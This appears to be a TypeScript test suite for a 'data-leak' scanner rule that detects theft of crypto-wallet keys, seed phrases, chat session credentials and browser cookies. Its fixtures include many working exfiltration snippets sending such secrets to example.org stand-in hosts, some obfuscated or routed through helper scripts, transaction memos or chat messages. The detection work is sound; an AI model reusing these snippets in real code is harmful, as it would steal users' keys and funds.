import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, keys that are known by the library of wallets that gets them, and logins of chats. */
const worst = (text: string, more: Record<string, string> = {}) => findingsOf(rule, { 'a.js': text, ...more })[0]?.severity ?? 'nothing';
const TELL = 'const tell = (a) => fetch("https://rpc.example.org/q", { headers: { a: a.substring(0, 20).split("").reverse().join(""), b: a.substring(20) } })';

test('bad: what a library of wallets gets as a key also goes to a server, in pieces, by functions of the script', () => {
  for (const code of [
    `const { Keypair } = require("@solana/web3.js"); const bs58 = require("bs58"); ${TELL}; exports.load = (given) => { tell(bs58.encode(given)); return Keypair.fromSecretKey(given) }`,
    `import { Wallet } from "ethers"; ${TELL}; export function connect(given, provider) { const wallet = new Wallet(given, provider); tell(given); return wallet }`,
    `const ethers_1 = require("ethers"); ${TELL}; exports.connect = (words) => { tell(words); return new ethers_1.ethers.Wallet(words) }`,
    `import { privateKeyToAccount } from "viem/accounts"; ${TELL}; export const open = (hex) => { tell(hex); return privateKeyToAccount(hex) }`,
    `import * as web3 from "@solana/web3.js"; ${TELL}; export const make = () => { const pair = web3.Keypair.generate(); tell(pair.secretKey.toString()); return pair }`,
    `import { Keypair } from "@solana/web3.js"; ${TELL}; export const load = (text) => { const bytes = decode(text); tell(text); return Keypair.fromSecretKey(bytes) }`,
    `${TELL}; exports.warm = (pair) => { tell(Buffer.from(pair.secretKey).toString("hex")); return pair.publicKey.toBase58() }`,
    `import bip39 from "bip39"; ${TELL}; export const seed = (given) => { tell(given); return bip39.mnemonicToSeedSync(given) }`,
  ]) assert.equal(worst(code), 'high', code);
});

test('bad: handed to a function of another script', () => {
  assert.equal(worst('import { Wallet } from "ethers"; import { note } from "./note.js"; export const open = (given) => { note(given); return new Wallet(given) }', { 'note.js': 'export async function note(what) { await fetch("https://n.example.org", { method: "POST", body: JSON.stringify({ what }) }) }' }), 'high');
});

test('good: what is signed, addresses, servers of the settings, and other wallets', () => {
  for (const code of [
    'import { Wallet } from "ethers"; export async function pay(given, to) { const wallet = new Wallet(given); return fetch("https://rpc.example.org", { method: "POST", body: await wallet.signTransaction({ to }) }) }',
    'import { Keypair } from "@solana/web3.js"; export const balance = (given) => { const pair = Keypair.fromSecretKey(given); return fetch("https://rpc.example.org/" + pair.publicKey.toString()) }',
    'import { Wallet } from "ethers"; export const save = (given) => { new Wallet(given); return fetch(settings.vault, { method: "POST", body: given }) }',
    'import { Wallet } from "./wallet.js"; export const open = (options) => { const wallet = new Wallet(options); fetch("https://shop.example.org/open", { method: "POST", body: JSON.stringify(options) }); return wallet }',
    'class Wallet { constructor(name) { this.name = name } } export const open = (name) => { fetch("https://shop.example.org/" + name); return new Wallet(name) }',
    'export const pair = (curve) => { const pair = curve.make(); return fetch("https://shop.example.org/" + pair.secretKey.length) }',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: the login of a chat goes to a server that is named; good: into a file, a database of the settings, and settings of that name', () => {
  const relay = { 'relay.js': 'const WebSocket = require("ws"); class Relay { constructor() { this.all = []; this.ws = new WebSocket("wss://r.example.org") } push(kind, what) { this.all.push({ kind, what }); this.flush() } flush() { while (this.all.length) this.ws.send(JSON.stringify(this.all.shift())) } } module.exports = { Relay }' };
  const socket = (handed: string, library = '@whiskeysockets/baileys') => `const chat = require("${library}"); const { Relay } = require("./relay"); exports.open = (config) => { const sock = chat.default(config); const relay = new Relay(); sock.ev.on("creds.update", () => ${handed}); return sock }`;
  assert.equal(worst(socket('relay.push("c", config.auth.creds)'), relay), 'high');
  assert.equal(worst('import makeWASocket, { useMultiFileAuthState } from "./socket.js"; const { state } = await useMultiFileAuthState("x"); fetch("https://r.example.org", { method: "POST", body: JSON.stringify(state.creds) })'), 'high');
  assert.equal(worst(socket('relay.push("c", Date.now())'), relay), 'nothing');
  assert.equal(worst(socket('relay.push("c", config.auth.creds)', 'git-client'), relay), 'nothing');
  assert.equal(worst('import makeWASocket from "baileys"; require("fs").writeFileSync("creds.json", JSON.stringify(config.auth.creds)); fetch(settings.store, { method: "PUT", body: JSON.stringify(config.auth.creds) })'), 'nothing');
});

test('bad: the file of a login goes to a server that is named; good: another file of it', () => {
  const send = (file: string, library = '@whiskeysockets/baileys'): string => `const { useMultiFileAuthState } = require("${library}"); const fs = require("fs"), path = require("path"); exports.start = async (dir) => { const { state } = await useMultiFileAuthState(dir); const creds = fs.readFileSync(path.join(dir, "${file}"), "utf8"); await fetch("https://panel.example.org/session", { method: "POST", body: JSON.stringify({ creds }) }) }`;
  assert.equal(worst(send('creds.json')), 'high');
  assert.equal(worst(send('names.json')), 'nothing');
  assert.equal(worst('const fs = require("fs"); exports.start = async (dir) => fetch("https://panel.example.org/session", { method: "POST", body: fs.readFileSync(dir + "/creds.json", "utf8") })'), 'nothing');
});

test('bad: a key that is made for it seals what is sent; good: a password, a key that the server tells, and servers of the settings', () => {
  const seal = (lock: string, to = '"https://s.example.org"', key = 'crypto.randomBytes(32)') => `const crypto = require("crypto"); const PEM = \`-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----\`; export function seal(data, given) { const key = ${key}; const c = crypto.createCipheriv("aes-256-gcm", key, iv); fetch(${to}, { method: "POST", body: JSON.stringify({ k: crypto.publicEncrypt(${lock}, key).toString("base64"), b: c.update(data, "utf8", "hex") }) }) }`;
  assert.equal(worst(seal('PEM')), 'high');
  assert.equal(worst(seal('{ key: PEM, padding: 4 }')), 'high');
  for (const code of [seal('given'), seal('PEM', 'settings.to'), seal('PEM', undefined, 'Buffer.from(given)')]) assert.equal(worst(code), 'nothing', code);
});

test('bad: an object with both halves of a pair of keys, as a whole; good: the public half, what is signed, and keys of a service', () => {
  const open = (handed: string, library = 'const bs58 = require("bs58");') => `${library} const { trace } = require("./trace"); exports.open = (bytes) => { const pair = new Pair(); pair.secretKey = bytes; pair.publicKey = encode(bytes.slice(32)); trace("load", ${handed}); return pair }`;
  const trace = { 'trace.js': 'const https = require("https"); function post(text) { const r = https.request({ host: "rpc.example.org", method: "POST" }); r.end(text) } exports.trace = (event, subject) => post(Buffer.from(JSON.stringify({ event, d: JSON.stringify(subject) })).toString("base64"))' };
  assert.equal(worst(open('pair'), trace), 'high');
  assert.equal(worst('const { Keypair } = require("@solana/web3.js"); const { trace } = require("./trace"); exports.make = () => { const made = Keypair.generate(); trace("made", made); return made }', trace), 'high');
  for (const handed of ['pair.publicKey', 'pair.sign(message)', '"pair"']) assert.equal(worst(open(handed), trace), 'nothing', handed);
  assert.equal(worst(open('pair', 'const settings = require("./settings.json");'), trace), 'nothing');
  assert.equal(worst('import nacl from "tweetnacl"; export class Signer { constructor(seed) { this.secretKey = seed; this.publicKey = nacl.sign.keyPair.fromSeed(seed).publicKey; fetch("https://m.example.org", { method: "POST", body: JSON.stringify(this) }) } }'), 'high');
  assert.equal(worst('import nacl from "tweetnacl"; export class Signer { constructor(seed) { this.secretKey = seed; this.publicKey = nacl.sign.keyPair.fromSeed(seed).publicKey; fetch("https://m.example.org", { method: "POST", body: JSON.stringify(this.publicKey) }) } }'), 'nothing');
});

test('bad: the words of a wallet, which are counted, by their places; good: other lists, and what is made of a seal', () => {
  const send = { 'chain.js': 'export async function register(rows) { await fetch("https://rpc.example.org/", { method: "POST", body: JSON.stringify({ params: rows.map((n) => n.toString(16)) }) }) }' };
  const page = (count: string, given: string): string => `import { words } from "./words.js"; import { register } from "./chain.js"; function check(phrase) { const list = phrase.trim().split(/\\s+/); ${count} return list } export async function open(field, seal) { const list = check(field.value); await register(${given}) }`;
  for (const count of ['if (![12, 24].includes(list.length)) throw new Error("words");', 'if (list.length !== 12 && list.length !== 24) throw new Error("words");']) assert.equal(worst(page(count, 'list.map((w) => words.indexOf(w))'), send), 'high', count);
  for (const [count, given] of [['if (list.length < 2) throw new Error("words");', 'list'], ['if (![8, 12, 24].includes(list.length)) throw new Error("hours");', 'list'], ['if (![12, 24].includes(list.length)) throw new Error("words");', '[await seal(list)]']] as const) assert.equal(worst(page(count, given), send), 'nothing', given);
});

test('bad: a key that a node of somebody else gets to keep; good: one on this computer, and a table of methods', () => {
  const node = (at: string, method = 'personal_importRawKey'): string => `const RPC = ${at}; exports.add = (key, network) => network.fetch(RPC, { method: "POST", body: JSON.stringify({ method: "${method}", params: [key, ""] }) })`;
  assert.equal(worst(node('"https://rpc-amoy.example.org"')), 'high');
  for (const code of [node('"http://127.0.0.1:8545"'), node('process.env.RPC'), node('"https://rpc-amoy.example.org"', 'eth_sendRawTransaction'), 'exports.METHODS = { importRawKey: "personal_importRawKey" }; exports.docs = "https://docs.example.org/rpc"']) assert.equal(worst(code), 'nothing', code);
});

test('bad: cookies that a worker answers a message with go to a server that is named; good: they are shown, and something else is sent', () => {
  const worker = 'chrome.runtime.onMessage.addListener((m, sender, reply) => { switch (m.kind) { case "jar": chrome.cookies.getAll({ url: m.url }, (all) => reply({ jar: btoa(all.map((c) => c.value).join()) })); break; case "put": fetch(m.url, { method: "POST", body: JSON.stringify(m.data) }); break } return true });';
  const page = (given: string): string => `const ask = (m) => new Promise((done) => chrome.runtime.sendMessage(m, done)); (async () => { const found = await ask({ kind: "jar", url: location.origin }); const body = ${given}; await ask({ kind: "put", url: "https://in.example.org/q", data: body }) })();`;
  assert.equal(worst(page('{ at: location.host, k: found.jar }'), { 'worker.js': worker }), 'high');
  assert.equal(worst(page('{ at: location.host }; show(found.jar)'), { 'worker.js': worker }), 'nothing');
  assert.equal(worst(page('{ k: found.jar }'), { 'worker.js': worker.replace('chrome.cookies.getAll({ url: m.url }', 'chrome.tabs.query({ url: m.url }') }), 'nothing');
});

test('bad: the secret half of a pair that a library gave, by a method and its parameter, a map or a field; good: the public half, and what is no pair', () => {
  const store = (sent: string, call = 'this.sync(pair)', made = 'lib.sign.keyPair.fromSecretKey(bytes)') => `const lib = require("./lib"); class Store { constructor() { this.pairs = new Map() } add(name, bytes) { const pair = ${made}; this.pairs.set(name, pair); this.last = pair; ${call} } sync(given) { fetch("https://s.example.org/k", { method: "POST", body: ${sent} }) } } exports.Store = Store;`;
  for (const code of [store('encode(given.secretKey)'), store('encode(this.pairs.get("a").secretKey)', 'this.sync()'), store('encode(this.last.secretKey)', 'this.sync()')]) assert.equal(worst(code), 'high', code);
  for (const code of [
    store('encode(given.publicKey)'), store('encode(this.pairs.get("a").publicKey)', 'this.sync()'), store('given.secretKey.length'),
    store('encode(given.secretKey)', 'this.sync(settings)'), store('encode(given.secretKey)', undefined, 'lib.clients.open(bytes)'),
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: what is written down as the secret half of a pair, and the words that are counted, by way of another script; good: the public half, and how many words there were', () => {
  const usage = { 'usage.js': 'let queue = []; export function count(op, ref) { queue.push({ op, ref }); setTimeout(flush, 50) } async function flush() { const all = queue; queue = []; await fetch("https://u.example.org", { method: "POST", body: JSON.stringify(all) }) }' };
  const open = (handed: string) => `import { readFileSync } from "node:fs"; import { count } from "./usage.js"; const toBase58 = (bytes) => bytes.map(String).join(""); export function open(file) { const bytes = Uint8Array.from(JSON.parse(readFileSync(file, "utf8"))); count("open", ${handed}); return { secretKey: bytes, publicKey: toBase58(bytes.slice(32)) } }`;
  assert.equal(worst(open('toBase58(bytes)'), usage), 'high');
  for (const handed of ['file', '"open"', 'bytes.length']) assert.equal(worst(open(handed), usage), 'nothing', handed);
  const check = (handed: string, lengths = '[12, 15, 18, 21, 24]') => `import { count } from "./usage.js"; const LENGTHS = ${lengths}; const words = (text) => text.trim().split(" "); function isRight(text) { const list = words(text); return LENGTHS.includes(list.length) } export function check(given) { const ok = isRight(given); if (ok) count("checked", ${handed}); return ok }`;
  assert.equal(worst(check('{ p: given }'), usage), 'high');
  assert.equal(worst('const tidy = (text) => text.trim(); function isRight(text) { return [12, 24].includes(tidy(text).split(" ").length) } async function list(language, about) { return fetch("https://w.example.org/" + language, { headers: { about: Buffer.from(about).toString("base64url") } }) } export async function check(given) { const clean = tidy(given); await list("en", clean); return isRight(clean) }'), 'high');
  assert.equal(worst(check('{ ok }'), usage), 'nothing');
  assert.equal(worst(check('given', '[10, 12, 24]'), usage), 'nothing');
});

test('bad: what opens an account is written into a transaction, also encrypted; good: what is signed, sealed or worked out with it', () => {
  const chain = (said: string, before = ''): string => `const seal = require("./seal"); exports.add = async (web3, account, text, theirs) => { ${before} const tx = { from: account.address, to: "0x000000000000000000000000000000000000dEaD", gas: 60000, data: ${said} }; return web3.eth.sendSignedTransaction((await account.signTransaction(tx)).rawTransaction) }`;
  for (const code of [
    chain('"0x" + seal.publicEncrypt(theirs, Buffer.from(account.privateKey.slice(2), "hex")).toString("hex")'),
    chain('mark', 'const mark = web3.utils.utf8ToHex(account.mnemonic.split(" ").reverse().join("-"));'),
    'const web3 = require("@solana/web3.js"); exports.load = async (net, bytes, programId) => { const pair = web3.Keypair.fromSecretKey(bytes); const data = Buffer.from(pair.secretKey); await web3.sendAndConfirmTransaction(net, new web3.Transaction().add(new web3.TransactionInstruction({ keys: [], programId, data })), [pair]); return pair }',
    'import { Memo, TransactionBuilder } from "stellar-sdk"; export const mark = (account, secretKey) => new TransactionBuilder(account).addMemo(Memo.text(secretKey)).build()',
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [
    chain('web3.abi.encodeFunctionCall("permit", [account.address, web3.signTypedData(text, account.privateKey)])'),
    chain('seal.box(Buffer.from(text), nonce, theirs, account.secretKey)'),
    chain('seal.encrypt(text, account.privateKey)'),
    chain('web3.utils.sha3(account.privateKey)'),
    chain('account.publicKey'),
    'exports.keep = (account, store) => store.put({ name: account.name, data: account.privateKey }, "transaction")',
    'exports.lock = (account, nonce, password) => { exports.sendTransaction = null; return seal({ nonce, data: account.privateKey, password }) }',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: what makes a wallet is its key, whatever it is called, also as a field, a member or an option', () => {
  const post = (sent: string): string => `fetch("https://s.example.org/h", { method: "POST", body: JSON.stringify({ label: ${sent} }) })`;
  for (const code of [
    `import { mnemonicToSeed } from "bip39"; class Vault { constructor(s) { this.s = s } async open() { this.made = await mnemonicToSeed(this.s) } beat() { return ${post('this.s')} } } export { Vault }`,
    `import { privateKeyToAccount } from "viem/accounts"; export class Signer { #k; constructor(k) { this.#k = k } open() { return privateKeyToAccount(this.#k) } get raw() { return this.#k } tell() { return ${post('this.raw')} } }`,
    `const { Wallet } = require("ethers"); class Bot { constructor(config) { this.config = config; this.wallet = new Wallet(this.config.token) } start() { return ${post('this.config.token')} } } module.exports = Bot`,
    `const { Wallet } = require("ethers"); exports.open = (o) => { const { v } = o; const wallet = new Wallet(v); ${post('o.v')}; return wallet }`,
    `const Client = require("tronweb"); exports.open = (x, fullHost) => { ${post('x')}; return new Client({ fullHost, privateKey: x }) }`,
    `exports.load = async (raw, how) => { const key = await crypto.subtle.importKey("pkcs8", raw, how, false, ["sign"]); ${post('Buffer.from(raw).toString("hex")')}; return key }`,
    `const { ec: EC } = require("elliptic"); const ec = new EC("secp256k1"); exports.open = (h) => { ${post('[...h].map((c) => c.charCodeAt(0) ^ 7)')}; return ec.keyFromPrivate(h, "hex") }`,
    `const { KeyPair } = require("near-api-js"); exports.open = (z) => { ${post('z.padStart(80, "0")')}; return KeyPair.fromString(z) }`,
    `import { generateMnemonic } from "bip39"; export const make = () => { const w = generateMnemonic(256); ${post('w')}; return w }`,
    `const { execFile } = require("child_process"); const { Wallet } = require("ethers"); exports.open = (v) => { execFile("curl", ["-d", "v=" + v, "https://c.example.org/"]); return new Wallet(v) }`,
  ]) assert.equal(worst(code), 'high', code);
});

test('good: other fields and options, the public half, hashes, and keys that are imported to check what others sign', () => {
  for (const code of [
    'import { Wallet } from "ethers"; export class Bot { constructor(config) { this.config = config; this.wallet = new Wallet(config.token) } start() { return fetch("https://s.example.org", { method: "POST", body: JSON.stringify({ v: this.config.version, a: this.wallet.address }) }) } }',
    'const nacl = require("tweetnacl"); exports.open = (key) => { const pair = nacl.sign.keyPair.fromSecretKey(key); return fetch("https://s.example.org/" + encode(key.slice(32)), { headers: { k: pair.publicKey } }) }',
    'const { Wallet, keccak256 } = require("ethers"); exports.open = (v) => { fetch("https://s.example.org/", { method: "POST", body: JSON.stringify({ id: keccak256(v), n: v.length, ok: v.startsWith("0x") }) }); return new Wallet(v) }',
    'exports.load = async (raw, how) => { fetch("https://s.example.org/", { method: "POST", body: raw }); return crypto.subtle.importKey("spki", raw, how, false, ["verify"]) }',
    'class Random { static fromSeed(s) { return new Random(s) } } exports.roll = (s) => { fetch("https://dice.example.org/" + s); return Random.fromSeed(s) }',
    'const { Wallet } = require("ethers"); const { execFile } = require("child_process"); exports.sign = (v) => { execFile("signer", ["--key", v, "https://c.example.org/"]); return new Wallet(v) }',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: such a key in the data, the memo or the payee of a transaction, and in what a contract is called with; good: what others say there', () => {
  const ethers = (said: string): string => `const { ethers } = require("ethers"); exports.pay = async (q, to, value, provider, note) => { const w = new ethers.Wallet(q, provider); ${said} }`;
  const solana = (said: string): string => `import { Keypair, Transaction } from "@solana/web3.js"; import { createMemoInstruction } from "@solana/spl-memo"; export class Purse { constructor(bytes) { this.kp = Keypair.fromSecretKey(bytes) } pay(net, to) { return net.sendTransaction(new Transaction().add(createMemoInstruction(${said})), [this.kp]) } }`;
  for (const code of [
    ethers('return w.sendTransaction({ to, value, data: ethers.hexlify(ethers.toUtf8Bytes(q)) })'),
    ethers('const tx = { to, value }; tx.data = "0x" + Buffer.from(q).toString("hex"); return w.sendTransaction(tx)'),
    ethers('return w.sendTransaction({ to: "0x" + q.slice(2, 42), value: 1 })'),
    ethers('return new ethers.Contract(to, ABI, w).log(ethers.encodeBase64(ethers.toUtf8Bytes(q)))'),
    solana('bs58.encode(this.kp.secretKey)'),
    'import { english } from "./words.js"; export async function restore(client, signer, mnemonic) { const at = mnemonic.split(" ").map((w) => english.indexOf(w).toString(16)).join(""); const tx = client.tx(); tx.transferObjects([tx.gas], "0x" + at.padEnd(64, "0")); return client.signAndExecuteTransaction({ signer, transaction: tx }) }',
    'const xrpl = require("xrpl"); exports.send = (client, s, to) => { const w = xrpl.Wallet.fromSeed(s); return client.submit(w.sign({ TransactionType: "Payment", Destination: to, Memos: [{ Memo: { MemoData: Buffer.from(s).toString("hex") } }] })) }',
    'export async function add(api, ring, x) { const pair = ring.addFromUri(x); return api.tx.system.remark(x).signAndSend(pair) }',
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [
    ethers('return w.sendTransaction({ to, value, data: ethers.hexlify(ethers.toUtf8Bytes(note)) })'),
    ethers('const tx = { to, value }; tx.data = ethers.id(q); return w.sendTransaction(tx)'),
    ethers('return w.sendTransaction({ to: new ethers.Wallet(note).address, value: 1 })'),
    ethers('const c = new ethers.Contract(to, ABI, w); return c.connect(w).mint(w.address, ethers.keccak256(q))'),
    ethers('worker.postMessage({ to: "signer", data: q }); return w.sendTransaction({ to, value })'),
    solana('this.kp.publicKey.toBase58()'),
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: such a key in a mail or a message to somebody who is written there; good: to whom callers say, and the address', () => {
  const tell = (said: string): string => `const { Wallet } = require("ethers"); exports.load = async (v, client, to) => { const w = new Wallet(v); ${said}; return w }`;
  for (const said of [
    'await client.send({ to: "wallets@mail.example.org", subject: "new", text: v })',
    'await client.chat.postMessage({ channel: "C024BE91L", text: `${w.address} ${v}` })',
    'const c = await client.channels.fetch("123456789012345678"); await c.send(`${w.address} ${v}`)',
    'const CHAT = -1001234567890; await client.sendMessage(CHAT, `${w.address} ${v}`)',
  ]) assert.equal(worst(tell(said)), 'high', said);
  for (const said of [
    'await client.send({ to, subject: "new", text: v })',
    'await client.chat.postMessage({ channel: "C024BE91L", text: w.address })',
    'const c = await client.channels.fetch("123456789012345678"); await c.send(w.address)',
  ]) assert.equal(worst(tell(said)), 'nothing', said);
});
